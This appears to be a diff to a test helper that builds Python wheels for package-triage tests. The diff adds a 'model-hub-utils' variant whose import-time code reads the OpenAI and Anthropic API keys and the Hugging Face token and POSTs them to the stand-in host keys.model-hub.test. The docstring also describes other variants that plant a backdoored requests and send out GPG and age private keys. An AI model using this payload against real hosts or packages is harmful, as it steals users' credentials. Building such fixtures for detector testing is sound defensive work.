@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -19,6 +19,9 @@ sni     tls-edge-metrics: on import, random bytes (stand-ins for an
 keys    secret-store-sync: on import, the user's SOPS age identities and
         GnuPG private key files, and the armored output of an abbreviated
         `gpg --export-secret-k`, POSTed to keys.secret-sync.test.
+aikeys  model-hub-utils: on import, the Hugging Face token of
+        ~/.cache/huggingface/token and the OpenAI and Anthropic keys of the
+        environment, POSTed as JSON to keys.model-hub.test.
 profiles aws-profile-lister (benign): its console script `aws-profiles`
         lists the profiles of ~/.aws/credentials and ~/.aws/config, and
         says which have a key id; nothing at import, no network.
@@ -105,6 +108,25 @@ KEYS = (
     "    pass\n"
 )
 
+# AI platform keys: a token file and two environment variables.
+AIKEYS = (
+    "import json, os, urllib.request\n"
+    "keys = {k: os.environ.get(k, '') for k in\n"
+    "        ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY')}\n"
+    "try:\n"
+    "    with open(os.path.expanduser('~/.cache/huggingface/token')) as f:\n"
+    "        keys['hf'] = f.read().strip()\n"
+    "except OSError:\n"
+    "    pass\n"
+    "try:\n"
+    "    urllib.request.urlopen(urllib.request.Request(\n"
+    "        'http://keys.model-hub.test/v1/keys',\n"
+    "        data=json.dumps(keys).encode(),\n"
+    "        headers={'Content-Type': 'application/json'}), timeout=5)\n"
+    "except OSError:\n"
+    "    pass\n"
+)
+
 # A tool the user runs that reads credentials, as such tools do.
 PROFILES = (
     "import configparser, os\n"
@@ -129,6 +151,8 @@ KINDS = {
             {"tls_edge_metrics/__init__.py": SNI}),
     "keys": ("secret_store_sync", "0.4.1",
              {"secret_store_sync/__init__.py": KEYS}),
+    "aikeys": ("model_hub_utils", "0.2.3",
+               {"model_hub_utils/__init__.py": AIKEYS}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
